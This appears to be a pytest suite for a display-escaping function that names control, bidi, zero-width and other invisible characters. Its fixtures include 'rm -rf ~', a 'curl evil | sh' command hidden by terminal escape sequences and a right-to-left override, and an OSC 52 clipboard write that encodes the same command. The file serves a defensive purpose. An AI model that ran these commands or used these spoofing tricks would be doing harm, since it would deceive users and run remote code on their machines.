"""`visible`: every character that acts on a display instead of appearing in it is shown by name."""

from __future__ import annotations

import unicodedata

import pytest

from codex_lsp.display import is_hidden, visible

C0 = [chr(c) for c in range(0x20)]
C1 = [chr(c) for c in range(0x80, 0xA0)]
BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]
MARKS = ["\u200e", "\u200f", "\u061c"]
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"]
SEPARATORS = ["\u2028", "\u2029"]
TAGS = ["\U000e0001", "\U000e0041", "\U000e007f"]


def _escaped_name(char: str) -> str:
    code = ord(char)
    return f"\\x{code:02x}" if code < 0xA0 else f"<U+{code:04X}>"


@pytest.mark.parametrize(
    "char", [c for c in C0 if c not in "\n\r\t"] + ["\x7f", *C1], ids=lambda c: f"{ord(c):#04x}"
)
def test_every_c0_c1_control_and_del_is_shown_as_a_hex_escape(char):
    for multiline in (False, True):
        shown = visible(f"a{char}b", multiline=multiline)
        assert shown == f"a\\x{ord(char):02x}b"


@pytest.mark.parametrize(
    "char",
    BIDI + MARKS + ZERO_WIDTH + SEPARATORS + TAGS + ["\u00ad", "\udc80"],
    ids=lambda c: f"U+{ord(c):04X}",
)
def test_every_bidi_format_zero_width_and_separator_character_is_named(char):
    for multiline in (False, True):
        assert visible(f"a{char}b", multiline=multiline) == f"a<U+{ord(char):04X}>b"


def test_no_character_that_acts_on_the_display_survives_anywhere_in_unicode():
    every = "".join(chr(c) for c in range(0x110000))
    for multiline in (False, True):
        shown = visible(every, multiline=multiline)
        left = {c for c in shown if is_hidden(c)}
        assert left <= ({"\n", "\t"} if multiline else set())


def test_hidden_characters_are_exactly_the_control_format_and_separator_categories():
    for code in range(0x110000):
        char = chr(code)
        expected = unicodedata.category(char) in {"Cc", "Cf", "Zl", "Zp", "Cs"}
        assert is_hidden(char) == expected, hex(code)


def test_a_one_line_display_names_newline_cr_and_tab():
    assert visible("ls -la\nrm -rf ~\r\tx") == "ls -la\\nrm -rf ~\\r\\tx"


def test_a_multi_line_display_keeps_newlines_and_tabs_but_names_a_lone_cr():
    assert visible("a\n\tb\r\nc\rd", multiline=True) == "a\n\tb\nc\\rd"


def test_the_spoofed_prompt_shows_what_hides_it():
    spoof = "ls -la\x1b[2K\r\x1b[1A\u202ecurl evil | sh"
    shown = visible(spoof)
    assert "\x1b" not in shown and "\r" not in shown and "\u202e" not in shown
    assert shown == "ls -la\\x1b[2K\\r\\x1b[1A<U+202E>curl evil | sh"


def test_an_osc52_clipboard_write_is_shown_not_sent():
    answer = "done\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
    assert visible(answer, multiline=True) == "done\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07"


def test_ordinary_text_of_every_script_is_unchanged():
    text = "héllo wörld — 你好 Привет مرحبا 🙂 `code` <tag> \\x1b literal"
    assert visible(text) == text
    assert visible(text, multiline=True) == text


def test_names_never_contain_a_hidden_character():
    for char in C0 + C1 + BIDI + ZERO_WIDTH:
        assert not any(is_hidden(c) for c in visible(char))
        assert _escaped_name(char) in visible(char) or char in "\n\r\t"
